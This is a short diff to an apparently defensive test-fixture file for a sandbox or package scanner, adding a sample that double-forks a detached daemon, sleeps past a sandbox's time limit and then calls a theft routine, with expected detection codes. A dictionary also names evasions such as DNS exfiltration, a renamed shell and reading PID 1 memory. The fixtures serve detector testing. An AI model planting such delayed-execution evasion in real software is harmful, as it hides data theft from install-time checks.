@@ -185,6 +185,20 @@ _theft()
 
 DAEMON_LEFT = '''
 import os as _os
+import select as _select
+
+if _os.fork() == 0:
+    _os.setsid()
+    if _os.fork() == 0:
+        _null = _os.open("/dev/null", _os.O_RDWR)
+        for _fd in (0, 1, 2):
+            _os.dup2(_null, _fd)
+        _quiet, _ = _os.pipe()
+        _select.select([_quiet], [], [], 300)  # waits on a descriptor: real time
+    _os._exit(0)
+'''
+
+DAEMON_SLEEPS_THEN_STEALS = THEFT + '''
 import time as _time
 
 if _os.fork() == 0:
@@ -193,7 +207,8 @@ if _os.fork() == 0:
         _null = _os.open("/dev/null", _os.O_RDWR)
         for _fd in (0, 1, 2):
             _os.dup2(_null, _fd)
-        _time.sleep(300)
+        _time.sleep(300)  # past any sandbox's limit, the installer long gone
+        _theft()
     _os._exit(0)
 '''
 
@@ -335,6 +350,7 @@ SANDBOX_EVASIONS = {
     "sendto-dns": (SENDTO_DNS, {"PV806", "PV803"}),
     "renamed-shell": (RENAMED_SHELL, {"PV825", "PV804", "PV801"}),
     "daemon-left-running": (DAEMON_LEFT, {"PV814"}),
+    "daemon-sleeps-then-steals": (DAEMON_SLEEPS_THEN_STEALS, {"PV824", "PV801", "PV803"}),
     "read-pid1-memory": (READ_PID1_MEMORY, {"PV817", "PV801", "PV803"}),
     "io-uring": (IO_URING, {"PV822", "PV801", "PV803"}),
     "unnormalised-path": (UNNORMALISED_PATH, {"PV801", "PV803"}),
